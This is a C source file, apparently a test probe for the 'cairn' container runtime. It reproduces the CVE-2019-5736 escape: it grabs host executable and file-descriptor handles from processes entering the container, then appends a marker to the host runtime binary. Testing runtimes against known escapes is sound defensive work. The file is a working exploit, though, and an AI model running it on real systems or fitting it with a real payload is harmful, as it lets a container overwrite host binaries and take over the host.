/* CVE-2019-5736, the way a hostile container tries it against `cairn exec`.
 *
 * For SECONDS seconds it scans /proc for processes that are not its own
 * and grabs what a process entering the container exposes before it
 * executes the user's command: an O_PATH fd of /proc/PID/exe (the host's
 * runtime binary) and its open fds (/proc/PID/fd/N: the host's store lock,
 * pipes, terminals). Then, once the entering process is gone (so the
 * binary is no longer busy), it reopens every grabbed exe for writing
 * through /proc/self/fd and appends MARKER to it.
 *
 * Prints "exe PID TARGET" per exe grabbed, "fd PID N TARGET" per host fd
 * grabbed, "wrote TARGET" per binary it managed to write, "done". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX 256
static int exes[MAX];
static char exe_target[MAX][256];
static int nexe;
static int seen[4096];
static int grabbed[4096];

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int mine(int pid) {
    /* our own processes: pid 1 (the shell that started us) and us */
    return pid == 1 || pid == getpid();
}

int main(int argc, char **argv) {
    double secs = argc > 1 ? atof(argv[1]) : 5;
    const char *marker = argc > 2 ? argv[2] : "PWNED";
    double end = now() + secs;
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (now() < end && nexe < MAX) {
        DIR *d = opendir("/proc");
        if (!d)
            return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || mine(pid) || (pid < 4096 && grabbed[pid]))
                continue;
            char p[64], t[256];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH);
            if (fd >= 0) {
                ssize_t n = readlink(p, t, sizeof t - 1);
                t[n > 0 ? n : 0] = 0;
                /* the container's own programs live in it; anything
                 * whose exe the container cannot see by that path is
                 * the host's */
                if (n > 0 && access(t, F_OK) != 0 && nexe < MAX) {
                    if (pid < 4096)
                        grabbed[pid] = 1;
                    exes[nexe] = fd;
                    strcpy(exe_target[nexe], t);
                    nexe++;
                    printf("exe %d %s\n", pid, t);
                } else {
                    close(fd);
                }
            }
            if (pid < 4096 && seen[pid])
                continue;
            snprintf(p, sizeof p, "/proc/%d/fd", pid);
            DIR *fds = opendir(p);
            if (!fds)
                continue;
            struct dirent *f;
            while ((f = readdir(fds))) {
                if (f->d_name[0] == '.')
                    continue;
                char fp[96];
                snprintf(fp, sizeof fp, "/proc/%d/fd/%s", pid, f->d_name);
                ssize_t n = readlink(fp, t, sizeof t - 1);
                t[n > 0 ? n : 0] = 0;
                /* a path the container cannot see is a host file */
                if (n > 0 && t[0] == '/' && strncmp(t, "/dev/", 5) != 0 &&
                    access(t, F_OK) != 0) {
                    int g = open(fp, O_RDONLY | O_NONBLOCK);
                    if (g >= 0) {
                        printf("fd %d %s %s\n", pid, f->d_name, t);
                        if (pid < 4096)
                            seen[pid] = 1;
                    }
                }
            }
            closedir(fds);
        }
        closedir(d);
    }
    /* Wait for the host binary to be idle, then write it. */
    double wend = now() + 3;
    for (int i = 0; i < nexe; i++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", exes[i]);
        for (;;) {
            int w = open(p, O_WRONLY | O_APPEND);
            if (w >= 0) {
                if (write(w, marker, strlen(marker)) > 0)
                    printf("wrote %s\n", exe_target[i]);
                close(w);
                break;
            }
            if (errno != ETXTBSY || now() > wend)
                break;
            usleep(10000);
        }
    }
    printf("done\n");
    return 0;
}
